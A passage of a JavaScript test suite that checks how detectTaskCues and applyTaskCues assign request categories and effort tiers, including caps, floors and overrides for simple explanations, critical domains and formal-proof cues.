  ])('marks a request for a simple explanation: %p', (text) => {
    expect(detectTaskCues(text, '')).toContain('simple_explanation');
  });

  it('caps a simple explanation at medium, below the floor of another cue', () => {
    const simple = applyTaskCues(decision({}), ['simple_explanation'], CATEGORIES);
    expect(simple.tier).toBe('medium');
    const proof = applyTaskCues(decision({}), ['proof_request', 'simple_explanation'], CATEGORIES);
    expect(proof.tier).toBe('high');
  });

  it('marks short plain questions, but not follow-ups or gated domains', () => {
    expect(detectTaskCues('How many weeks are in a year?', '')).toEqual(['short_question']);
    expect(detectTaskCues('How many weeks are in a year?', '', false)).toEqual([]);
  });

  it('applies categories, caps and floors, with easy edits winning over floors', () => {
    const greeted = applyTaskCues(decision({}), ['greeting'], CATEGORIES);
    expect(greeted).toMatchObject({ category: 'smalltalk', tier: 'minimal', confidence: 0.9 });
    const critical = applyTaskCues(decision({ tier: 'medium' }), ['critical_domain'], CATEGORIES);
    expect(critical.tier).toBe('high');
    expect(critical.overrides[0]).toMatchObject({ code: 'task_cue_floor', from: 'medium', to: 'high' });
    const easy = applyTaskCues(decision({}), ['critical_domain', 'easy_edit'], CATEGORIES);
    expect(easy.tier).toBe('low');
  });

  it('keeps an unconfirmed critical guess of the classifier at high', () => {
    const guessed = applyTaskCues(decision({ category: 'medical', tier: 'critical' }), [], CATEGORIES);
    expect(guessed.tier).toBe('high');
    const confirmed = applyTaskCues(
      decision({ category: 'medical', tier: 'critical' }),
      ['critical_domain'],
      CATEGORIES,
    );
    expect(confirmed.tier).toBe('critical');
  });

  it('lets a guess of an ultra category reach ultra only with a formal-verification cue', () => {
    const sure = decision({ category: 'formal_reasoning', tier: 'ultra', confidence: 0.95 });
    const guessed = applyTaskCues(sure, [], CATEGORIES);
    expect(guessed.tier).toBe('high');
    expect(guessed.overrides[0]).toMatchObject({ code: 'task_cue_cap', detail: 'unconfirmed ultra' });
    expect(applyTaskCues(sure, ['formal_proof'], CATEGORIES).tier).toBe('ultra');
    // The cue alone lifts another category to high, inside the band of advanced to ultra labels.
    expect(applyTaskCues(decision({ tier: 'medium' }), ['formal_proof'], CATEGORIES).tier).toBe('high');
  });
});
